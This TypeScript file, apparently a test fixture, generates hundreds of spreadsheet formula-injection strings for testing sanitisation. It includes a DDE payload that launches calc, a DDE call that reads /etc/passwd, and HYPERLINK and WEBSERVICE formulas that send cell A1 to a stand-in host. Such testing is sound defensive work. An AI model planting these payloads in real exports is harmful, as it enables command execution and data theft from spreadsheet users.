// Texts that a spreadsheet could take for formulas, links or numbers.

const BEFORE = [
  ...[
    '',
    ' ',
    '   ',
    '\t',
    '\n',
    '\r',
    '\r\n',
    '\u00a0',
    '\u3000',
    '\u2003',
    '\u200b',
    '\u200d\u2060',
    '\ufeff',
    '\u202e',
  ],
  ...['\u00ad', "'", "''", '"', '";', ';', ',', 'x\t', 'x\r\n', 'a;b,'],
];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '==', '=-', '+='];
const AFTER = [
  ...['1+1', '1', '12.50', 'A1', 'SUM(1;2)', 'SUM(1,2)', '"a"&"b"', '1;=2', '1,=2', '1\t=2', '1\r\n=2', 'RAND()'],
  ...["cmd|' /C calc'!A0", 'DDE("soffice";"/etc/passwd";"A1")', 'HYPERLINK("http://x.test/?"&A1,"look")'],
  ...[
    'HYPERLINK("http://x.test/?"&A1;"看")',
    'WEBSERVICE("http://x.test/"&A1)',
    "'file:///etc/passwd'#$Sheet1.A1",
    '港',
  ],
];
const COUNT = 500;

/** A selection without duplicates: those that begin with a sign, known attacks, and a sample of all others. */
export function hostileTexts(): readonly string[] {
  const known = ["'=1+1", ';=1', ',=1', '\t=1', '"=1+1"', '=1+1\r\n=2+2', '"";=1;"', '+1', '-1', '@', '=', '=0012'];
  const [direct = [], ...others] = BEFORE.map((before) =>
    SIGNS.flatMap((sign) => AFTER.map((after) => before + sign + after)),
  );
  const rest = others.flat();
  const first = new Set([...known, ...direct]);
  const step = rest.length / COUNT;
  const spread = Array.from({ length: COUNT }, (_, index) => rest[Math.floor(index * step)] ?? '');
  return [...new Set([...first, ...spread.filter((_, index) => index % 2 === 0), ...spread])].slice(0, COUNT);
}
